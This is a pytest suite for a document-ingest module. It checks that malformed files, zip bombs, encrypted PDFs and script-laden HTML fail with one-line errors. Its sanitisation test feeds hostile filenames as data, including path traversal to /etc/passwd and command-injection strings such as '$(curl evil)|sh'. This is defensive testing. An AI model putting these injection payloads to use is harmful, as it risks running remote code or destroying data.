"""Bad inputs end as one-line IngestErrors that name the file and the reason."""

from __future__ import annotations

import io
import os
import zipfile

import pytest

from kb.config import MB
from kb.errors import IngestError, TooLarge, UnsupportedType
from kb.ingest import archive, parse_bytes, parse_file


def _encrypted_pdf(plain: bytes) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(plain)))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive_file:
        for name, content in members.items():
            archive_file.writestr(name, content)
    return out.getvalue()


def _bomb_docx() -> bytes:
    """A DOCX-shaped zip whose document part inflates 8 MB of zeros from a few KB."""
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * (8 * MB)})


@pytest.fixture
def low_zip_limits(monkeypatch):
    """Lower the bomb limits so the test archive stays small in memory."""
    monkeypatch.setattr(archive, "MAX_UNCOMPRESSED_BYTES", 4 * MB)
    monkeypatch.setattr(archive, "_RATIO_FLOOR_BYTES", 1 * MB)


def _scripts_only_html() -> bytes:
    scripts = "".join(f"<script>steal_cookies({i}); var SECRET_{i} = 1;</script>" for i in range(30))
    return f"<html><head>{scripts}</head><body>{scripts}<style>.a{{}}</style></body></html>".encode()


@pytest.mark.parametrize(
    ("name", "data", "error", "reason"),
    [
        ("empty.txt", b"", IngestError, "empty file"),
        ("blank.txt", b"  \n\t\r\n  ", IngestError, "empty file"),
        ("blank16.txt", " \n \u00a0 ".encode("utf-16"), IngestError, "empty file"),
        ("noise.bin", bytes(range(256)) * 16, UnsupportedType, "unsupported file type: binary data"),
        ("fake.docx", b"PK\x03\x04" + b"garbage" * 50, IngestError, "broken DOCX or zip file: not a valid zip archive"),
        ("other.docx", _zip({"readme.txt": b"hello"}), UnsupportedType, "a zip archive that is not a Word (DOCX) document"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, UnsupportedType, "legacy Office file"),
        ("broken.pdf", b"%PDF-1.4\n1 0 obj garbage", IngestError, "broken PDF:"),
        ("scripts.html", _scripts_only_html(), IngestError, "no text found"),
        ("furniture.txt", b"nav search\nHome > News > World\nShare\nPrint\n", IngestError, "no text found"),
    ],
)
def test_bad_bytes(name, data, error, reason):
    with pytest.raises(error) as caught:
        parse_bytes(data, name)
    message = str(caught.value)
    assert message.startswith(f"{name}: ") and reason in message
    assert "\n" not in message


def test_random_bytes_are_unsupported():
    with pytest.raises(UnsupportedType, match=r"^noise\.bin: unsupported file type: binary data"):
        parse_bytes(os.urandom(4096), "noise.bin")


def test_truncated_pdf(make_pdf):
    data = make_pdf([["Some text on a page."]])
    with pytest.raises(IngestError, match=r"^cut\.pdf: broken PDF: "):
        parse_bytes(data[: len(data) // 2], "cut.pdf")


def test_truncated_pdf_names_a_real_reason(make_pdf):
    data = make_pdf([["Some text on a page."], ["A second page of text."]])
    for cut in (len(data) // 3, len(data) // 2, len(data) - 40):
        with pytest.raises(IngestError) as caught:
            parse_bytes(data[:cut], "cut.pdf")
        reason = str(caught.value).removeprefix("cut.pdf: broken PDF: ")
        assert reason != str(caught.value) and reason.strip()
        assert "success" not in reason.lower()


def test_pdf_without_pages_is_not_reported_as_success():
    # PDFium opens a page-less file and then reports its last error code: "Success" ("broken PDF: success")
    from pypdf import PdfWriter

    out = io.BytesIO()
    PdfWriter().write(out)
    with pytest.raises(IngestError, match=r"^nopages\.pdf: broken PDF: the PDF could not be read: it has no pages$"):
        parse_bytes(out.getvalue(), "nopages.pdf")


def test_pdfium_success_text_becomes_a_reason():
    from pypdfium2 import PdfiumError

    from kb.ingest.pdf import _reason

    assert _reason(PdfiumError("Failed to load document (PDFium: Success).", err_code=0)) == (
        "the PDF could not be read: PDFium gave no reason")
    assert _reason(PdfiumError("Failed to load document (PDFium: Data format error).", err_code=3)) == (
        "data format error")


def test_encrypted_pdf(make_pdf):
    data = _encrypted_pdf(make_pdf([["Secret plan text."]]))
    with pytest.raises(IngestError, match=r"^locked\.pdf: encrypted PDF: needs a password$"):
        parse_bytes(data, "locked.pdf")


def test_pdf_without_text_layer(make_pdf):
    with pytest.raises(IngestError, match=r"^scan\.pdf: no text found: scanned PDF\?$"):
        parse_bytes(make_pdf([[]], rectangle_only=True), "scan.pdf")


def test_pdf_with_some_empty_pages_warns(make_pdf):
    doc = parse_bytes(make_pdf([["Page one has text."], [], ["Page three has text."]]), "gaps.pdf")
    assert any("some pages had no text" in warning and "2" in warning for warning in doc.warnings)


def test_zip_bomb_docx_is_refused_before_inflating(low_zip_limits):
    data = _bomb_docx()
    assert len(data) < 100_000
    with pytest.raises(IngestError, match=r"^bomb\.docx: refused DOCX: zip would unpack to 8\.0 MB.*zip bomb\?$"):
        parse_bytes(data, "bomb.docx")


def test_zip_bomb_over_the_real_200mb_cap():
    """Streams 210 MB of zeros into a ~200 KB member, one megabyte at a time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive_file:
        archive_file.writestr("[Content_Types].xml", b"<Types/>")
        with archive_file.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = bytes(MB)
            for _ in range(210):
                member.write(chunk)
    data = out.getvalue()
    assert len(data) < 2 * MB
    with pytest.raises(IngestError, match=r"^bomb\.docx: refused DOCX: zip would unpack to 210\.0 MB, over the 200 MB limit"):
        parse_bytes(data, "bomb.docx")


def test_zip_bomb_by_ratio(monkeypatch):
    monkeypatch.setattr(archive, "_RATIO_FLOOR_BYTES", 1 * MB)
    with pytest.raises(IngestError, match=r"compression ratio .* zip bomb\?$"):
        parse_bytes(_bomb_docx(), "bomb.docx")


def test_zip_with_too_many_entries(monkeypatch):
    monkeypatch.setattr(archive, "MAX_ENTRIES", 5)
    members = {"word/document.xml": b"<w/>"} | {f"x{i}.xml": b"<x/>" for i in range(10)}
    with pytest.raises(IngestError, match=r"entries, over the limit of 5: zip bomb\?$"):
        parse_bytes(_zip(members), "many.docx")


def test_html_full_of_scripts_keeps_none_of_them():
    scripts = "".join(f"<script>var SECRET_{i} = 'leak';</script>" for i in range(12))
    data = f"<html><head>{scripts}</head><body>{scripts}<p>The board will meet in May.</p></body></html>".encode()
    doc = parse_bytes(data, "page.html")
    assert "SECRET" not in doc.text and "leak" not in doc.text
    assert doc.text == "The board will meet in May."
    assert "HTML had 24 script blocks removed" in doc.warnings


def test_too_large_bytes():
    with pytest.raises(TooLarge, match=r"^big\.txt: file is 2\.0 MB, over the 1 MB limit$"):
        parse_bytes(b"a" * (2 * MB), "big.txt", max_bytes=1 * MB)


def test_sparse_200mb_file_is_refused_by_stat(tmp_path, monkeypatch):
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:
        handle.truncate(200 * MB)

    def no_reading(*args, **kwargs):
        raise AssertionError("parse_file read a file it should have refused by size")

    monkeypatch.setattr(type(path), "open", no_reading)
    with pytest.raises(TooLarge, match=r"^huge\.txt: file is 200\.0 MB, over the 50 MB limit$"):
        parse_file(path)


def test_nonexistent_path(tmp_path):
    with pytest.raises(IngestError, match=r"^missing\.pdf: no such file$"):
        parse_file(tmp_path / "missing.pdf")


def test_directory_path(tmp_path):
    (tmp_path / "folder").mkdir()
    with pytest.raises(IngestError, match=r"^folder: is a directory"):
        parse_file(tmp_path / "folder")


def test_parse_file_reads_a_real_file(tmp_path):
    path = tmp_path / "note.txt"
    path.write_bytes(b"Note title\n\nThe council will review the plan.\n")
    doc = parse_file(path)
    assert doc.source_name == "note.txt" and doc.title == "Note title"


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("a;rm -rf $(x).txt", "a_rm -rf _(x).txt"),
        ("C:\\Users\\me\\plan.txt", "plan.txt"),
        ("<b>x</b>.txt", "b_.txt"),
        ("$(curl evil)|sh;.txt", "_(curl evil)_sh_.txt"),
        ("..", "unnamed"),
        ("line\nbreak.txt", "linebreak.txt"),
    ],
)
def test_source_name_is_sanitised(given, shown):
    doc = parse_bytes(b"Plan\n\nThe city will act.\n", given)
    assert doc.source_name == shown
    with pytest.raises(IngestError) as caught:
        parse_bytes(b"", given)
    assert str(caught.value) == f"{shown}: empty file"
